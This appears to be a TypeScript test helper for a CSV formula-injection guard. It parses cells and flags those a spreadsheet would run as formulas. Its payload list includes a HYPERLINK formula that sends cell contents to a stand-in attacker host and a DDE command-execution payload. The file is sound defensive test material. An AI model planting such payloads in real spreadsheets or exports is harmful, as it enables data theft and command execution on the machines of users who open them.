import { parse } from 'csv-parse/sync';

/**
 * The cells of an RFC 4180 CSV text as a spreadsheet reads them (quotes removed, `""` as `"`). For tests: read by
 * csv-parse, a parser independent of the ones vtrguard writes and reads with.
 */
export function csvCells(text: string): string[][] {
  return parse(text, { relax_column_count: true }) as string[][];
}

/** Cells a spreadsheet would run as formulas (OWASP: leading `=`, `+`, `-`, `@`, tab, carriage return). */
export function liveFormulas(text: string): string[] {
  return csvCells(text).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
}

/** Payloads of a crafted file: formulas, DDE, and the lead characters OWASP lists, alone and quoted. */
export const FORMULA_PAYLOADS = [
  '=1+1', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1',
  '=cmd|\' /C calc\'!A0', '-2', '"=1+1"', '=1,=2', 'a\n=1+1',
];
